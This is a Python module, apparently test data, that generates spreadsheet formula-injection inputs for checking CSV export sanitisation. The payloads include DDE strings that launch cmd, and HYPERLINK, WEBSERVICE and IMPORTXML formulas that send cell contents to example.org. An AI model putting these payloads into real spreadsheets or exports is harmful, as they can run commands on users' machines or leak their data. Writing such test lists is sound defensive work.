"""Texts that a spreadsheet might compute, fetch or run."""

from itertools import product
from typing import Final

STARTS: Final = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "=-", "=+", "@=")
BODIES: Final = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.org/?"&A1,"查看")',
    'WEBSERVICE("http://example.org/"&A1)',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "[外部.xlsx]Sheet1!A1",
    "2+5+cmd|' /C notepad'!'A1'",
    "A1&CHAR(10)",
)
OTHERS: Final = (
    '"=1+1"',
    "'=1+1",
    " =1+1",
    "　=1+1",
    "=1+1,=2+2",
    "a,=1+1",
    'a",=1+1,"',
    "a\n=1+1",
    "a\r\n=1+1",
    "-12.5",
    "+86",
    "-",
    "=",
    "%0A=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "{=SUM(A1)}",
    "#REF!",
    "TRUE",
    "1E5",
    "0001",
    "2026-01-01",
    "_x003D_1+1",
)
PAYLOADS: Final = (*(start + body for start, body in product(STARTS, BODIES)), *OTHERS)
